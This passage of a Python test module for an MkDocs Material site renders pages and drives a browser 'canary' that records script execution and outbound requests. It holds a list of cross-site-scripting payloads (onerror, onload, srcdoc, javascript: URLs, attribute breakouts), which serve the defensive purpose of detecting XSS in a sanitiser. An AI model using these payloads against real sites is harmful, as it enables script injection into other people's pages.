            problems += absolute_problems(soup, where)
            gained = signatures(soup) - signatures(twin)
            if gained:
                problems.append(f"{where}: elements gained from content: {sorted(gained)[:8]}")
    return problems


def visible_text(html: str) -> str:
    soup = _soup(html)
    for script in soup.find_all(["script", "style"]):
        script.decompose()
    return " ".join(soup.get_text(" ").split())


def missing_texts(pages: dict[str, str], wanted: list[tuple[str, str]]) -> list[str]:
    """Texts that do not appear, whitespace aside, as visible text on their page."""
    shown: dict[str, str] = {}
    missing = []
    for page, text in wanted:
        if page not in pages:
            missing.append(f"{page}: page not built")
            continue
        if page not in shown:
            shown[page] = visible_text(pages[page])
        if " ".join(text.split()) not in shown[page]:
            missing.append(f"{page}: {text[:70]!r} is not shown as text")
    return missing


# --- generated Markdown rendered by Python-Markdown, for checks without MkDocs ----------------------


class _ConfigLoader(yaml.SafeLoader):
    pass


_ConfigLoader.add_multi_constructor("!", lambda loader, suffix, node: None)


_markdown = None


def render_markdown(source: str) -> str:
    """A generated page as MkDocs renders its Markdown (the extensions of mkdocs.yml), no theme."""
    global _markdown
    import markdown

    if _markdown is None:
        config = yaml.load((REPO / "mkdocs.yml").read_text(encoding="utf-8"), Loader=_ConfigLoader)
        names, options = [], {}
        for item in config.get("markdown_extensions", []):
            if isinstance(item, dict):
                [(name, opts)] = item.items()
                names.append(name)
                options[name] = opts or {}
            else:
                names.append(item)
        _markdown = markdown.Markdown(extensions=names, extension_configs=options)
    if source.startswith("---\n"):
        source = source.split("\n---\n", 1)[1]
    return _markdown.reset().convert(source)


def page_url(rel: str) -> str:
    """'articles/x.md' → 'articles/x/'; 'articles/index.md' → 'articles/'."""
    rel = rel[:-3]
    return rel[: -len("index")] if rel.endswith("index") else rel + "/"


def rendered_pages(files: dict[str, str], urls: set[str] | None = None) -> dict[str, str]:
    """Generated Markdown pages (as `render.render_site` returns them) rendered to HTML, keyed
    by URL; only the pages in `urls`, if given."""
    pages = {}
    for rel, text in files.items():
        if rel.endswith(".md") and (urls is None or page_url(rel) in urls):
            pages[page_url(rel)] = render_markdown(text)
    return pages


def site_pages(site: Path) -> dict[str, str]:
    """Built HTML pages keyed by their URL ('articles/x/', '' for the home page)."""
    pages = {}
    for path in sorted(site.rglob("*.html")):
        rel = path.relative_to(site).as_posix()
        url = rel[: -len("index.html")] if rel.endswith("index.html") else rel
        pages[url] = path.read_text(encoding="utf-8")
    return pages


def vector_count() -> int:
    return len(VECTORS)


# --- the browser canary ----------------------------------------------------------------------------

# Vectors also used as ?q= (search) and ?h= (highlight) parameters, which Material reads.
PARAM_VECTORS: list[str] = [
    "<img src=x onerror=alert(3)>", "<script>alert(1)</script>", "\"><svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>", "</title><script>alert(41)</script>",
    "<iframe srcdoc=\"<script>parent.alert(10)</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(29)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(30)>\">",
    "javascript:alert(58)", "' autofocus onfocus='alert(48)", "\" onmouseover=\"alert(47)",
    "<a href=\"javascript:alert(53)\">x</a>", "<base href=\"http://sentinel.invalid/\">",
    "<img src=http://sentinel.invalid/pixel.png>", "{{ config }}", "onerror", "script", "img", "alert",
    "mark><img src=x onerror=alert(88)>", "$&<img src=x onerror=alert(89)>", "(?:)|<img src=x onerror=alert(90)>",
    ".*", "\\", "a|b|<svg/onload=alert(91)>",
]

CANARY_INIT = r"""
(() => {
  const report = (kind, detail) => {
    try { window.__hostileCanary(kind, String(detail), String(location.href)); } catch (e) {}
  };
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    const fake = function (...args) {
      report(name, args.map(String).join(" "));
      return name === "confirm" ? false : (name === "prompt" ? null : undefined);
    };
    try { Object.defineProperty(window, name, {value: fake, writable: false, configurable: false}); }
    catch (e) { window[name] = fake; }
  }
  window.addEventListener("securitypolicyviolation",
    (e) => report("csp", `${e.violatedDirective} ${e.blockedURI} ${e.sample || ""}`), true);
})();
"""


@dataclass
class CanaryEvent:
    kind: str      # alert | confirm | prompt | print | dialog | pageerror | csp | request | popup | missing
    detail: str
    url: str

    def __str__(self) -> str:
        return f"{self.kind}: {self.detail[:160]} (on {self.url})"


@dataclass
class Canary:
    """A browser context that records every sign of script running or of a request leaving the
    site: calls to alert/confirm/prompt/print, dialogs, uncaught errors, Content-Security-Policy
    violations, pop-ups, requests to any host but 127.0.0.1 (the sentinel host included), and
    local requests for files the site does not have (an injected `<img src=x>` would ask for one)."""

    events: list = field(default_factory=list)
    console_errors: list = field(default_factory=list)
    visits: int = 0
    searches: int = 0

    def attach(self, context) -> None:
        from urllib.parse import urlsplit

        context.expose_function("__hostileCanary", lambda kind, detail, url: self.events.append(
            CanaryEvent(kind, detail, url)))
        context.add_init_script(CANARY_INIT)

        def route(route_) -> None:
            url = route_.request.url
            parts = urlsplit(url)
            if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname not in ("127.0.0.1", "localhost"):
                self.events.append(CanaryEvent("request", url, route_.request.frame.url if route_.request.frame
                                               else ""))
                route_.abort("blockedbyclient")
            else:
                route_.continue_()

        context.route("**/*", route)

    def watch(self, page) -> None:
        page.on("dialog", lambda d: (self.events.append(CanaryEvent("dialog", f"{d.type}: {d.message}", page.url)),
                                     d.dismiss()))
        page.on("pageerror", lambda e: self.events.append(CanaryEvent("pageerror", str(e), page.url)))
        page.on("popup", lambda p: self.events.append(CanaryEvent("popup", p.url, page.url)))
        page.on("console", lambda m: self.console_errors.append(f"{m.text} (on {page.url})")
                if m.type == "error" else None)
        page.on("response", lambda r: self.events.append(CanaryEvent("missing", f"{r.status} {r.url}", page.url))
                if r.status >= 400 else None)

    def visit(self, page, url: str, settle_ms: int = 40) -> None:
        page.goto(url, wait_until="load")
        page.wait_for_timeout(settle_ms)
        self.visits += 1

    def visit_many(self, pages: list, urls: list[str], settle_ms: int = 40) -> None:
        """Visit `urls`, several pages of the same context loading at once."""
        from urllib.parse import unquote

        for i in range(0, len(urls), len(pages)):
            batch = list(zip(pages, urls[i:i + len(pages)]))
            for page, url in batch:
                page.evaluate("url => { window.location.href = url; }", url)
            for page, url in batch:
                want = unquote(url)
                page.wait_for_url(lambda u, want=want: unquote(u) == want, wait_until="load")
            batch[0][0].wait_for_timeout(settle_ms)
            self.visits += len(batch)

    def search(self, page, query: str, expect_results: bool = True, timeout_ms: int = 10_000) -> int:
        """Type `query` into Material's search box; the number of results shown."""
        box = page.locator(".md-search__input")
        box.click()
        box.fill(query[:-1])
        box.press(query[-1])  # Material searches on key events
        results = page.locator(".md-search-result__item")
        if expect_results:
            results.first.wait_for(timeout=timeout_ms)
        else:
            page.wait_for_function("q => document.querySelector('.md-search__input').value === q && "
                                   "/matching/.test(document.querySelector('.md-search-result__meta').innerText)",
                                   arg=query, timeout=timeout_ms)
        page.wait_for_timeout(100)
        self.searches += 1
        return results.count()

    def executed_vectors(self) -> set[str]:
        """The vectors whose script ran or whose request left, as far as events tell."""
        fired = set()
        numbers = set()
        for event in self.events:
            numbers.update(re.findall(r"\d+", event.detail) if event.kind in ("alert", "confirm", "prompt") else [])
        for vector in VECTORS:
            if any(re.search(rf"(alert|confirm|prompt)\({n}\)", vector) for n in numbers):
                fired.add(vector)
            if any(e.kind == "request" and e.detail.split("?")[0].rstrip("/") and
                   e.detail.split("//", 1)[-1].split("?")[0] in vector for e in self.events):
                fired.add(vector)
        if any(e.kind == "print" for e in self.events):
            fired.update(v for v in VECTORS if "print()" in v)
        return fired
